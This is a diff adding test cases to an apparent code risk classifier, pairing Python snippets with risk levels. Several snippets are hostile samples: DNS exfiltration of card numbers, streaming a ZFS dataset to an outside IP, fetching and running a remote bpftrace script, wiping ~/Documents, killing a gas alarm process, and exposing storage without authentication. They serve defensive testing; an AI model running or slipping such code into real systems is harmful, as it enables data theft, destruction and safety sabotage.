@@ -10490,6 +10490,138 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             '        print(e.pw_name, e.pw_dir)\n',
             S,
         ),
+        # holdout304-307: storage stacks, optometry, kernel tracing, laundries
+        (
+            'import psutil\n'
+            'for p in psutil.process_iter(["cmdline"]):\n'
+            '    cmd = " ".join(p.info["cmdline"] or [])\n'
+            '    if "gas_alarm_daemon" in cmd:\n'
+            '        p.kill()\n',
+            H,
+        ),
+        (
+            'import psutil\n'
+            'for p in psutil.process_iter(["cmdline"]):\n'
+            '    cmd = " ".join(p.info["cmdline"] or [])\n'
+            '    if "my_worker.py" in cmd:\n'
+            '        p.kill()\n',
+            M,
+        ),
+        (
+            'import re, socket\n'
+            'pan = re.compile(r"\\b4\\d{15}\\b")\n'
+            'for n in set(pan.findall(open("/var/log/pos/a.log").read())):\n'
+            '    socket.gethostbyname(f"{n}.x.cdn-metrics.net")\n',
+            H,
+        ),
+        (
+            'import socket\n'
+            'for host in ["db", "cache"]:\n'
+            '    socket.gethostbyname(f"{host}.internal.example.com")\n',
+            S,
+        ),
+        (
+            'import datetime, glob, os, subprocess\n'
+            'dest = os.path.expanduser(f"~/disk-reports/{datetime.date.today()}")\n'
+            'os.makedirs(dest, exist_ok=True)\n'
+            'for dev in glob.glob("/dev/sd?"):\n'
+            '    with open(os.path.join(dest, os.path.basename(dev) + ".txt"), "w") as f:\n'
+            '        subprocess.run(["lsblk", dev], stdout=f)\n',
+            L,
+        ),
+        (
+            'import os\n'
+            'for root, dirs, files in os.walk(os.path.expanduser("~/Documents")):\n'
+            '    for name in files:\n'
+            '        with open(os.path.join(root, name), "w") as f:\n'
+            '            f.write("x")\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'for p in subprocess.check_output(["btrfs", "subvolume", "list", "/mnt/pool"], te'
+            'xt=True).split():\n'
+            '    subprocess.run(["btrfs", "subvolume", "delete", f"/mnt/pool/{p}"])\n',
+            H,
+        ),
+        (
+            'with open("/etc/fstab", "a") as f:\n'
+            '    f.write("203.0.113.9:/exports/bin  /usr/local/bin  nfs  defaults  0 0\\n")\n',
+            H,
+        ),
+        (
+            'with open("/etc/fstab", "a") as f:\n'
+            '    f.write("nas.lan:/exports/media  /mnt/media  nfs  defaults  0 0\\n")\n',
+            M,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["zfs", "set", "sharenfs=rw=*,no_root_squash", "tank/home"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["zfs", "set", "sharenfs=rw=@10.0.5.0/24", "tank/media"])\n',
+            L,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["targetcli", "/iscsi/iqn.2024-01.x:t/tpg1", "set", "attribute", '
+            '"authentication=0", "generate_node_acls=1"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.Popen(["qemu-nbd", "--bind=0.0.0.0", "/dev/nvme0n1"])\n',
+            H,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["sudo", "qemu-nbd", "-c", "/dev/nbd0", "disk.qcow2"])\n',
+            M,
+        ),
+        (
+            'import socket, subprocess\n'
+            'proc = subprocess.Popen(["zfs", "send", "-R", "tank/home@x"], stdout=subprocess.'
+            'PIPE)\n'
+            'with socket.create_connection(("203.0.113.40", 9000)) as s:\n'
+            '    s.sendall(proc.stdout.read())\n',
+            H,
+        ),
+        (
+            'import subprocess, tempfile, urllib.request\n'
+            'with tempfile.NamedTemporaryFile("w", suffix=".bt", delete=False) as fh:\n'
+            '    fh.write(urllib.request.urlopen("https://example.com/p.bt").read().decode())'
+            '\n'
+            'subprocess.run(["sudo", "bpftrace", fh.name])\n',
+            C,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["sudo", "bpftrace", "tools/syscount.bt"])\n',
+            M,
+        ),
+        (
+            'from bcc import BPF\n'
+            'b = BPF(text="int f(void *ctx) { bpf_probe_write_user(p, buf, 4); return 0; }")\n',
+            H,
+        ),
+        (
+            'from bcc import BPF\n'
+            'b = BPF(text="int f(void *ctx) { bpf_trace_printk(\\"hi\\\\n\\"); return 0; }")\n',
+            S,
+        ),
+        (
+            'import subprocess\n'
+            'out = subprocess.run(["sudo", "btrfs", "scrub", "status", "/mnt/data"], capture_'
+            'output=True, text=True).stdout\n',
+            M,
+        ),
+        (
+            'import subprocess\n'
+            'subprocess.run(["sudo", "btrfs", "subvolume", "delete", "/mnt/data/home"])\n',
+            H,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
